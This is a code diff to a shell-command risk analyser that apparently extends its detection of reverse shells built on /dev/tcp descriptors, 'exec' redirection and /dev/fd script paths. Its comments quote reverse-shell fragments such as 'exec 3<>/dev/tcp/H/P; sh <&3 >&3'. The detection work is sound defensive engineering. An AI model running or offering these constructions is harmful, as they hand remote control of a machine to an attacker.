@@ -83,6 +83,8 @@ class Judge(Memory, CodeJudge):
         self.cwd: str | None = None  # the directory `cd` moved to (None: where reos runs)
         self.path_changed = False  # PATH was set: bare program names are no longer known
         self.network_fd = False  # a redirection opened /dev/tcp or /dev/udp
+        # `exec 0<&3` after that: the script's own input or output is the connection
+        self.network_stdio = False
 
     def mutates(self, why: str | None = None) -> None:
         self.read_only = False
@@ -332,9 +334,10 @@ class Judge(Memory, CodeJudge):
                 r.target.startswith(("/dev/tcp/", "/dev/udp/")) for r in command.redirects):
             self.verdict.raise_to(RiskLevel.CRITICAL, f"connects {program} to another machine "
                                   "(a reverse shell)", block=True)
-        if command is not None and program in SHELL_OR_CODE and self.network_fd and any(
-                r.op in ("<&", ">&") and r.target.isdigit() and int(r.target) > 2
-                for r in command.redirects):  # `exec 3<>/dev/tcp/H/P; sh <&3 >&3`
+        wired = command is not None and self.network_fd and _to_descriptor(command)
+        if wired and program == "exec" and len(argv) == 1:  # `exec 0<&3 1>&3`: from here on
+            self.network_stdio = True
+        if program in SHELL_OR_CODE and (wired or self.network_stdio):  # `sh <&3 >&3`
             self.verdict.raise_to(RiskLevel.CRITICAL, f"connects {program} to a network "
                                   "connection opened before it (a reverse shell)", block=True)
         if program in NETCATS and netcat_exec(argv):
@@ -539,7 +542,10 @@ class Judge(Memory, CodeJudge):
             self.payload(produced_by(procsubs[path]), ctx, depth, launch.label, as_script=True)
             return
         self.mutates(f"{launch.label} runs a script")
-        if self.downloaded and same_file(path) in self.downloaded:
+        if self.network_fd and path.startswith(("/dev/fd/", "/proc/self/fd/")):
+            self.verdict.raise_to(RiskLevel.CRITICAL, f"{launch.label} runs what arrives on "
+                                  "a network connection opened before it", block=True)
+        elif self.downloaded and same_file(path) in self.downloaded:
             self.payload(Source(None, network=True), ctx, depth, launch.label, as_script=True)
         elif same_file(path) in self.written:
             self.script(self.written[same_file(path)], ctx, depth + 1)
@@ -579,6 +585,13 @@ class Judge(Memory, CodeJudge):
         self._unknown(ctx, f"{label} runs {source.what or 'text'}")
 
     # -- interpreters and carried code ---------------------------------------------------
+
+
+def _to_descriptor(command: SimpleCommand) -> bool:
+    """Whether the command's input or output is moved to a descriptor above 2 (`<&3`,
+    `>&3`, `<&3-`): one a script opened itself."""
+    return any(r.op in ("<&", ">&") and r.target.rstrip("-").isdigit()
+               and int(r.target.rstrip("-")) > 2 for r in command.redirects)
 
 
 _GLOB_START = frozenset("*?[")
